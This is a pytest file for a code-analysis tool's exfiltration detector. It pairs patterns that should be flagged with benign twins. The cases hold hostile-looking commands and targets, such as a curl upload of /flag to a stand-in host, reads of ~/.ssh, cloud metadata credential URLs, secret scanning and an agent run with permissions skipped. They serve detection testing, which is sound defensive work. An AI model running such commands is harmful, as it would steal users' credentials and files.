"""Exfiltration: each template is told by its facts, and not by a twin that lacks what makes it one."""

import pytest

from pratique.analysis.chains.exfiltration import EXFILTRATION
from pratique.analysis.context import Context
from pratique.analysis.facts import Capability, Taint
from tests.analysis.chains.making import (
    BARE,
    CALLBACK,
    FAR,
    FREE,
    LOOKUP,
    WEBHOOK,
    WIDE,
    Case,
    address,
    elsewhere,
    env,
    fetch,
    load,
    place,
    read,
    send,
    sends,
    start,
    told,
    use,
    who,
)

CASES = (
    Case("secrets-sent", [place(".ssh"), send()], [place(".ssh"), elsewhere(send())]),
    Case("cloud-secrets-sent", [place(".aws/credentials"), send()], [place(".aws/credentials"), send(WIDE)]),
    Case(
        "metadata-service-asked",
        [place("instance metadata"), env(), send()],
        [place("instance metadata"), send()],
    ),
    Case(
        "metadata-credentials-sent",
        [fetch("http://169.254.169.254/latest/meta-data/iam/security-credentials/"), send()],
        [fetch("http://169.254.169.254/latest/meta-data/instance-id"), send()],
    ),
    Case("environment-dumped", [env("*"), send()], [env("HOME"), send()]),
    Case("environment-sent", [sends(Taint.ENVIRONMENT)], [env(), send()]),
    Case("identity-sent", [who(), send()], [send(), who()]),
    Case(
        "identity-asked-of-name-server",
        [who(), use(Capability.NETWORK, "socket.gethostbyname")],
        [who(), fetch()],
    ),
    Case("files-sent", [sends(Taint.FILE)], [sends(Taint.FILE, target=WIDE)]),
    Case("key-files-sent", [place(".ssh"), sends(Taint.FILE)], [place("API key"), sends(Taint.FILE)]),
    Case(
        "cloud-files-sent",
        [place(".aws/credentials"), sends(Taint.FILE, Taint.SECRETS)],
        [place("AWS key"), sends(Taint.FILE, Taint.SECRETS)],
    ),
    Case(
        "memory-searched-and-sent",
        [use(Capability.NETWORK, "memory-searched", FAR)],
        [use(Capability.NETWORK, "memory-searched", WIDE)],
    ),
    Case(
        "key-files-and-host-asked",
        [load(place(".ssh")), load(read()), load(send())],
        [load(place(".ssh")), load(read()), load(send(WIDE))],
    ),
    Case(
        "folders-searched-and-sent",
        [load(use(Capability.FILE_READ, "os.walk")), load(read()), load(send())],
        [use(Capability.FILE_READ, "os.walk"), read(), send()],
    ),
    Case(
        "files-packed-and-sent",
        [use(Capability.FILE_WRITE, "shutil.make_archive"), send()],
        [use(Capability.FILE_WRITE, "shutil.make_archive"), fetch()],
    ),
    Case("program-output-sent", [sends(Taint.PROCESS)], [start("id"), send()]),
    Case(
        "uploaded-by-command",
        [start("curl -F a=@/flag far.invalid")],
        [start("curl -o a https://far.invalid")],
    ),
    Case(
        "credentials-read-by-command",
        [load(start("find ~/.ssh"))],
        [load(start("cat ~/.ssh/known_hosts")), load(start("find ./.npmrc")), start("cat ~/.npmrc")],
    ),
    Case("public-address-looked-up-and-sent", [fetch(LOOKUP), send()], [fetch(LOOKUP), fetch()]),
    Case(
        "posted-to-webhook",
        [who(), elsewhere(send(WEBHOOK))],
        [who(), elsewhere(send("https://discord.com/api/v9/users"))],
    ),
    Case("sent-to-anonymous-host", [env(), send(BARE)], [env(), send(FAR)]),
    Case("callback-host-told", [fetch(CALLBACK)], [fetch(FAR)]),
    Case("anonymous-host-asked", [load(fetch(BARE))], [fetch(BARE)]),
    Case("unknown-host-asked-at-install", [fetch(FAR)], [fetch(WIDE)], context=Context.INSTALL),
    Case("sent-to-free-hosting", [load(send(FREE))], [load(fetch(FREE))]),
    Case("hidden-address-asked", [address(FAR, encoded=True), fetch(None)], [address(FAR), fetch(None)]),
    Case("hidden-address-told", [who(), address(BARE, encoded=True)], [who(), address(BARE)]),
    Case("mail-copied", [use(Capability.NETWORK, "blind-copy", "far.invalid")], [send()]),
    Case("secrets-searched-by-scanner", [start("trufflehog filesystem /"), send()], [start("ls /"), send()]),
    Case(
        "agent-sent-searching", [start("claude --dangerously-skip-permissions -p x")], [start("claude -p x")]
    ),
    Case(
        "secrets-put-in-repository",
        [place("GitHub token"), send("POST https://api.github.com/user/repos")],
        [place("GitHub token"), send("https://api.github.com/rate_limit")],
    ),
)


@pytest.mark.parametrize("case", CASES, ids=str)
def test_the_facts_are_told(case: Case) -> None:
    assert 1 == len(told(case, case.facts))


@pytest.mark.parametrize("case", CASES, ids=str)
def test_the_twin_is_not(case: Case) -> None:
    assert [] == told(case, case.quiet)


def test_every_template_of_the_family_has_its_case() -> None:
    assert [template.id for template in EXFILTRATION] == [case.template for case in CASES]
